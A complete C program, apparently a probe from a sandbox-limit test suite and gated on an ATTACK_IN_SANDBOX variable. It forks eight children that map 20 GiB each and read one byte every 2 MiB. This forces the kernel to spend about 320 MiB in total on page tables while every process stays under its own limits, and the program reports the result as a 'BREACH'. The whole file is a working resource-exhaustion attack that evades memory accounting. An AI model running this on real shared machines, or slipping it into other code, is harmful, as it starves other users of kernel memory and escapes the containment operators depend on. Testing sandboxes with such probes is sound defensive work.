// use memory in page tables of many processes, each below every limit of its own
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

int main(void) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    const size_t room = 20ull << 30, step = 2u << 20; /* 10,240 tables of 4 KiB: 40 MiB each */
    int ready[2];
    if (pipe(ready) < 0) return 1;
    for (int child = 0; child < 8; child++) {
        if (fork()) continue;
        char *map = mmap(NULL, room, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
        if (map == MAP_FAILED) _exit(1);
        madvise(map, room, MADV_NOHUGEPAGE);
        volatile char sum = 0;
        for (size_t at = 0; at < room; at += step) sum += map[at];
        if (write(ready[1], "x", 1) == 1) pause();
    }
    char byte;
    for (int child = 0; child < 8; child++)
        if (read(ready[0], &byte, 1) != 1) return 1;
    usleep(1000000); // a busy machine may not look at it for long
    puts("BREACH holds 320 MiB");
}
